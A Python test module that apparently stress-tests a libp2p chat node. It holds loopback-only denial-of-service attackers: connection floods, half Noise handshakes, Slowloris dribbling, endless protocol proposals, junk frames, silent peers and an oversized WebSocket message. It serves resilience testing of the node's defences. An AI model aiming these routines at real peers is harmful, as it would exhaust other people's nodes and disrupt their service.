"""Connection-level attackers: connections opened and held, half handshakes, junk, dribbles.

Each attacker opens TCP connections to a victim on 127.0.0.1 from a loopback source address
it binds (Linux routes all of 127.0.0.0/8 to ``lo``: 127.0.0.2, 127.0.0.3, ... are other
"hosts" to the victim, while honest peers dial from 127.0.0.1). Everything stays on loopback,
and every attacker is bounded in connections and in time (the caller's cancel scope).
"""

from __future__ import annotations

import os
import struct
from collections.abc import Sequence
from dataclasses import dataclass, field

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_x25519_key_pair
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_PROTOCOL_ID
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX_PROTOCOL_ID
from libp2p.stream_muxer.yamux.yamux import Yamux
from libp2p.transport.upgrader import TransportUpgrader
from p2pchat.node.wire.framing import encode_uvarint
from trio_websocket import ConnectionClosed, HandshakeError, wrap_client_stream

MULTISTREAM = b"/multistream/1.0.0\n"
NOISE = b"/noise\n"


def delimited(line: bytes) -> bytes:
    """A multistream-select message: uvarint length, then the line."""
    return encode_uvarint(len(line)) + line


def sources(first: int, count: int) -> list[str]:
    """``count`` loopback source addresses from 127.0.0.<first> on (never 127.0.0.1)."""
    assert first >= 2 and first + count <= 255
    return [f"127.0.0.{n}" for n in range(first, first + count)]


@dataclass
class Tally:
    """What an attacker managed: connections opened, and those the victim closed on it."""

    opened: int = 0
    failed: int = 0
    closed_by_victim: int = 0
    streams: list[trio.SocketStream] = field(default_factory=list)


async def open_from(source: str, port: int) -> trio.SocketStream:
    """A TCP connection to 127.0.0.1:``port`` from ``source``."""
    sock = trio.socket.socket(trio.socket.AF_INET, trio.socket.SOCK_STREAM)
    try:
        await sock.bind((source, 0))
        await sock.connect(("127.0.0.1", port))
    except BaseException:
        sock.close()
        raise
    return trio.SocketStream(sock)


async def _opened(source: str, port: int, tally: Tally) -> trio.SocketStream | None:
    """:func:`open_from`, counted in ``tally`` as opened or failed (then None)."""
    try:
        stream = await open_from(source, port)
    except OSError:
        tally.failed += 1
        return None
    tally.opened += 1
    return stream


async def _until_closed(stream: trio.SocketStream, tally: Tally) -> None:
    """Hold ``stream``, reading what comes, until the victim closes it (counted) or the
    attacker does."""
    try:
        while await stream.receive_some(65536):
            pass
    except trio.ClosedResourceError:
        return  # the attacker closed it
    except trio.BrokenResourceError:
        pass
    tally.closed_by_victim += 1


async def hold(
    port: int, addrs: Sequence[str], count: int, tally: Tally, first_bytes: bytes = b""
) -> None:
    """Open ``count`` connections spread over ``addrs``, send ``first_bytes`` on each (nothing:
    a bare TCP connection) and hold them until cancelled."""
    async with trio.open_nursery() as nursery:
        for index in range(count):
            try:
                stream = await open_from(addrs[index % len(addrs)], port)
                if first_bytes:
                    await stream.send_all(first_bytes)
            except OSError:
                tally.failed += 1
                continue
            tally.opened += 1
            tally.streams.append(stream)
            nursery.start_soon(_until_closed, stream, tally)


def half_noise_bytes() -> bytes:
    """Multistream to Noise, then the first Noise XX message (an ephemeral key: any 32 bytes
    are one) and nothing more: the victim answers and waits for the third message."""
    return delimited(MULTISTREAM) + delimited(NOISE) + struct.pack(">H", 32) + os.urandom(32)


async def dribble(port: int, source: str, tally: Tally, every: float = 0.5) -> None:
    """Slowloris: a valid multistream header, one byte every ``every`` s, forever."""
    data = delimited(MULTISTREAM) * 1000
    stream = await _opened(source, port, tally)
    if stream is None:
        return
    try:
        for byte in data:
            await stream.send_all(bytes([byte]))
            await trio.sleep(every)
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        tally.closed_by_victim += 1


async def endless_proposals(port: int, source: str, tally: Tally) -> None:
    """A multistream negotiation that never ends: protocol after protocol the victim does not
    speak (it answers ``na`` to each), as fast as it answers."""
    stream = await _opened(source, port, tally)
    if stream is None:
        return
    proposal = delimited(b"/junk/" + b"x" * 200 + b"\n") * 20
    try:
        await stream.send_all(delimited(MULTISTREAM))
        while True:
            await stream.send_all(proposal)
            await stream.receive_some(65536)
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        tally.closed_by_victim += 1


async def junk(port: int, source: str, tally: Tally, size: int = 256 * 1024) -> None:
    """A valid multistream and Noise proposal, then ``size`` random bytes as Noise frames of
    the largest length: a handshake of garbage, as large as the framing allows."""
    stream = await _opened(source, port, tally)
    if stream is None:
        return
    frame = struct.pack(">H", 65535) + os.urandom(65535)
    try:
        await stream.send_all(delimited(MULTISTREAM) + delimited(NOISE))
        for _ in range(size // len(frame) + 1):
            await stream.send_all(frame)
        while await stream.receive_some(65536):
            pass
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        pass
    tally.closed_by_victim += 1


async def secured_silent(
    port: int,
    addrs: Sequence[str],
    count: int,
    victim: str,
    tally: Tally,
    keep: bool = True,
    one_peer: bool = False,
) -> None:
    """``count`` connections, one after the other, that complete Noise and Yamux, each as a
    new PeerId (``one_peer``: all as the same one), and then never read a frame: the victim's
    identify is never answered. Held until cancelled, or (``keep`` False) closed as soon as
    the handshake is done."""
    victim_id = ID.from_base58(victim)
    same = create_new_key_pair()
    async with trio.open_nursery() as nursery:
        for index in range(count):
            key_pair = same if one_peer else create_new_key_pair()
            noise = NoiseTransport(key_pair, noise_privkey=create_x25519_key_pair().private_key)
            upgrader = TransportUpgrader({NOISE_PROTOCOL_ID: noise}, {YAMUX_PROTOCOL_ID: Yamux})
            try:
                stream = await open_from(addrs[index % len(addrs)], port)
                raw = RawConnection(TrioTCPStream(stream), True)
                with trio.fail_after(30):
                    secured = await upgrader.upgrade_security(raw, True, victim_id)
                    await upgrader.upgrade_connection(secured, victim_id)  # never started
            except Exception:  # refused, cut or timed out: the victim's defence, counted
                tally.failed += 1
                continue
            tally.opened += 1
            if not keep:
                stream.socket.close()
                continue
            tally.streams.append(stream)
            nursery.start_soon(_until_closed_raw, stream, tally)


async def _until_closed_raw(stream: trio.SocketStream, tally: Tally) -> None:
    # The muxer is never started: this task alone reads the socket, so the victim's identify
    # request is swallowed unanswered, and its close is seen.
    await _until_closed(stream, tally)


async def websocket_message(port: int, source: str, tally: Tally, size: int = 30 * 2**20) -> None:
    """A WebSocket client (TCP and WebSocket share the victim's port) that sends one binary
    message of ``size`` bytes before any libp2p handshake: py-libp2p's WebSocket layer
    buffers whole messages of up to 32 MiB before reading them."""
    stream = await _opened(source, port, tally)
    if stream is None:
        return
    try:
        async with trio.open_nursery() as nursery:
            ws = await wrap_client_stream(nursery, stream, "127.0.0.1", "/")
            await ws.send_message(os.urandom(1024) * (size // 1024))
            await ws.get_message()  # until the victim closes it
    except* (ConnectionClosed, HandshakeError, trio.BrokenResourceError, trio.ClosedResourceError):
        tally.closed_by_victim += 1  # raised from trio-websocket's reader task, in a group
